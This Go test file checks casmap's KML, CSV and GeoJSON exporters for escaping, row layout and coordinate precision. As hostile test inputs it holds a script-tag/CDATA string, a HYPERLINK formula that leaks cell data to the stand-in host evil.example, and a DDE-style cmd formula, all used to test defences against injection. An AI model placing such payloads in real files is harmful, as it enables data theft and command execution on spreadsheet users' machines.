package format_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"html"
	"strings"
	"testing"

	"github.com/casmap/casmap/geodata"
	"github.com/casmap/casmap/geodata/format"
	"github.com/paulmach/orb"
)

const hostile = `Abbey Gate's <script>alert("x")</script> & <b>bold</b> ]]> <![CDATA[`

func testDoc() (format.Doc, []geodata.Feature) {
	src := []any{map[string]any{"title": "Report", "publisher": "RFE/RL", "url": "https://example.org/a", "date": "2022-05-18"}}
	return format.Doc{
			Layer:   geodata.Layer{ID: "t", Title: "Test layer", Description: "A test", Attribution: "casmap"},
			Version: "abc-7",
		}, []geodata.Feature{
			{ID: "p", Geometry: orb.Point{71.55, 37.49}, Properties: map[string]any{"name": hostile, "fatalities": 3.0, "sources": src}},
			{ID: "l", Geometry: orb.LineString{{67.4, 37.2}, {67.1, 36.7}}, Properties: map[string]any{"name": "Line", "sources": src}},
			{ID: "m", Geometry: orb.MultiPolygon{{{{70, 37}, {72, 37}, {72, 39}, {70, 37}}}, {{{73, 37}, {74, 37}, {74, 38}, {73, 37}}}}, Properties: map[string]any{"title": "Two parts"}},
		}
}

func write(t *testing.T, name string) []byte {
	t.Helper()
	f, ok := format.ByName(name)
	if !ok {
		t.Fatalf("no format %q", name)
	}
	var buf bytes.Buffer
	doc, features := testDoc()
	if err := f.WriteAll(&buf, doc, features, format.Trailer{Matched: 3}); err != nil {
		t.Fatalf("%s: write: %v", name, err)
	}
	return buf.Bytes()
}

func TestKMLOpensWithEveryPlacemark(t *testing.T) {
	var doc struct {
		Document struct {
			Name       string `xml:"name"`
			Placemarks []struct {
				ID          string `xml:"id,attr"`
				Name        string `xml:"name"`
				Description string `xml:"description"`
				Point       *struct {
					Coordinates string `xml:"coordinates"`
				} `xml:"Point"`
				Line *struct {
					Coordinates string `xml:"coordinates"`
				} `xml:"LineString"`
				Multi *struct {
					Polygons []struct {
						Outer string `xml:"outerBoundaryIs>LinearRing>coordinates"`
					} `xml:"Polygon"`
				} `xml:"MultiGeometry"`
				Data []struct {
					Name  string `xml:"name,attr"`
					Value string `xml:"value"`
				} `xml:"ExtendedData>Data"`
			} `xml:"Placemark"`
		} `xml:"Document"`
	}
	body := write(t, "kml")
	if err := xml.Unmarshal(body, &doc); err != nil {
		t.Fatalf("KML is not well-formed XML: %v\n%s", err, body)
	}
	d := doc.Document
	if d.Name != "Test layer" || len(d.Placemarks) != 3 {
		t.Fatalf("KML document %q with %d placemarks, want \"Test layer\" with 3", d.Name, len(d.Placemarks))
	}
	p, l, m := d.Placemarks[0], d.Placemarks[1], d.Placemarks[2]
	// Names and ExtendedData are plain text in KML: an XML reader gets
	// back the string that was stored, escaped once, not entities.
	if p.Name != hostile || p.Point == nil || p.Point.Coordinates != "71.55,37.49" {
		t.Errorf("point placemark = %+v, want the name %q and coordinates 71.55,37.49", p, hostile)
	}
	values := map[string]string{}
	for _, data := range p.Data {
		values[data.Name] = data.Value
	}
	if values["name"] != hostile || values["fatalities"] != "3" {
		t.Errorf("ExtendedData = %q, want name %q and fatalities 3", values, hostile)
	}
	// The markup stays text: no element, comment or CDATA section of it
	// reaches the file unescaped.
	for _, live := range []string{"<script", "<b>", "]]>", "<![CDATA["} {
		if bytes.Contains(body, []byte(live)) {
			t.Errorf("KML carries %q unescaped:\n%s", live, body)
		}
	}
	// Google Earth renders descriptions as HTML: markup must arrive
	// escaped, and its HTML must show the text it was.
	if strings.Contains(p.Description, "<script>") || !strings.Contains(html.UnescapeString(p.Description), "name: "+hostile) {
		t.Errorf("description = %q, want the name HTML-escaped in it", p.Description)
	}
	if l.Line == nil || l.Line.Coordinates != "67.4,37.2 67.1,36.7" {
		t.Errorf("line placemark geometry = %+v", l.Line)
	}
	if m.Name != "Two parts" || m.Multi == nil || len(m.Multi.Polygons) != 2 {
		t.Errorf("multipolygon placemark = %+v, want two polygons in a MultiGeometry", m)
	}
	if !bytes.Contains(body, []byte("abc-7")) {
		t.Error("KML does not record the data version")
	}
}

func TestCSVHasOneRowPerFeature(t *testing.T) {
	rows, err := csv.NewReader(bytes.NewReader(write(t, "csv"))).ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v", err)
	}
	if len(rows) != 4 {
		t.Fatalf("%d rows, want a header and 3", len(rows))
	}
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	for _, name := range []string{"id", "lon", "lat", "wkt", "name", "sources", "data_version"} {
		if _, ok := col[name]; !ok {
			t.Errorf("CSV header %v lacks %q", rows[0], name)
		}
	}
	point, line := rows[1], rows[2]
	if point[col["lon"]] != "71.55" || point[col["lat"]] != "37.49" || point[col["wkt"]] != "" {
		t.Errorf("point row lon/lat/wkt = %q/%q/%q", point[col["lon"]], point[col["lat"]], point[col["wkt"]])
	}
	if !strings.HasPrefix(line[col["wkt"]], "LINESTRING") {
		t.Errorf("line row wkt = %q, want a LINESTRING", line[col["wkt"]])
	}
	if got, want := point[col["sources"]], "Report (RFE/RL, 2022-05-18) https://example.org/a"; got != want {
		t.Errorf("sources = %q, want %q", got, want)
	}
	if point[col["data_version"]] != "abc-7" {
		t.Errorf("data_version = %q", point[col["data_version"]])
	}
}

func TestGeoJSONCountsAndVersion(t *testing.T) {
	var fc struct {
		Type           string            `json:"type"`
		Features       []json.RawMessage `json:"features"`
		NumberMatched  int               `json:"numberMatched"`
		NumberReturned int               `json:"numberReturned"`
		DataVersion    string            `json:"dataVersion"`
	}
	if err := json.Unmarshal(write(t, "geojson"), &fc); err != nil {
		t.Fatal(err)
	}
	if fc.Type != "FeatureCollection" || len(fc.Features) != 3 || fc.NumberReturned != 3 || fc.NumberMatched != 3 || fc.DataVersion != "abc-7" {
		t.Errorf("GeoJSON = %+v", fc)
	}
}

// TestCSVCellsAreNeverFormulas holds the CSV-injection fix: a cell that
// begins with =, +, -, @, a tab or a carriage return, header included,
// comes out with a leading apostrophe so a spreadsheet shows it as text;
// numbers casmap writes stay numbers.
func TestCSVCellsAreNeverFormulas(t *testing.T) {
	src := []any{map[string]any{"title": "=HYPERLINK(\"https://evil.example/?\"&A1)"}}
	doc := format.Doc{Layer: geodata.Layer{ID: "t"}, Version: "v-1"}
	features := []geodata.Feature{{
		ID: "@SUM(1+1)", Geometry: orb.Point{-71.123456789, 37.5},
		Properties: map[string]any{
			"=cmd|' /C calc'!A0": "x", "plus": "+1+1", "minus": "-2+3", "at": "@A1", "tab": "\t=1", "cr": "\r=1",
			"fatalities": -3.0, "plain": "a = b", "sources": src,
		},
	}}
	f, _ := format.ByName("csv")
	var buf bytes.Buffer
	if err := f.WriteAll(&buf, doc, features, format.Trailer{Matched: 1}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v", err)
	}
	header, row := rows[0], rows[1]
	cell := map[string]string{}
	for i, name := range header {
		if name != "" && strings.ContainsRune("=+-@\t\r", rune(name[0])) {
			t.Errorf("header cell %q would run as a formula", name)
		}
		cell[name] = row[i]
	}
	for i, v := range row {
		if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) && header[i] != "lon" && header[i] != "fatalities" {
			t.Errorf("column %q: cell %q would run as a formula", header[i], v)
		}
	}
	for name, want := range map[string]string{
		"id": "'@SUM(1+1)", "plus": "'+1+1", "minus": "'-2+3", "at": "'@A1", "tab": "'\t=1", "cr": "'\r=1",
		"'=cmd|' /C calc'!A0": "x", "plain": "a = b", "fatalities": "-3", "lon": "-71.1234568",
		"sources": `'=HYPERLINK("https://evil.example/?"&A1)`,
	} {
		if got, ok := cell[name]; !ok || got != want {
			t.Errorf("cell %q = %q, want %q", name, got, want)
		}
	}
}

// TestCoordinatesHaveBoundedPrecision: CSV and KML write at most seven
// decimal places, whatever the stored value.
func TestCoordinatesHaveBoundedPrecision(t *testing.T) {
	doc := format.Doc{Layer: geodata.Layer{ID: "t"}}
	features := []geodata.Feature{
		{ID: "p", Geometry: orb.Point{69.123456789012345, 34.1}, Properties: map[string]any{}},
		{ID: "l", Geometry: orb.LineString{{69.000000049, 34.99999999999}, {70, 35}}, Properties: map[string]any{}},
	}
	for _, name := range []string{"csv", "kml"} {
		f, _ := format.ByName(name)
		var buf bytes.Buffer
		if err := f.WriteAll(&buf, doc, features, format.Trailer{Matched: 2}); err != nil {
			t.Fatal(err)
		}
		out := buf.String()
		for _, long := range []string{"69.123456789", "69.000000049", "34.99999999999"} {
			if strings.Contains(out, long) {
				t.Errorf("%s holds the coordinate %s at full precision:\n%s", name, long, out)
			}
		}
		if !strings.Contains(out, "69.1234568") {
			t.Errorf("%s lacks 69.1234568 (seven places):\n%s", name, out)
		}
	}
}
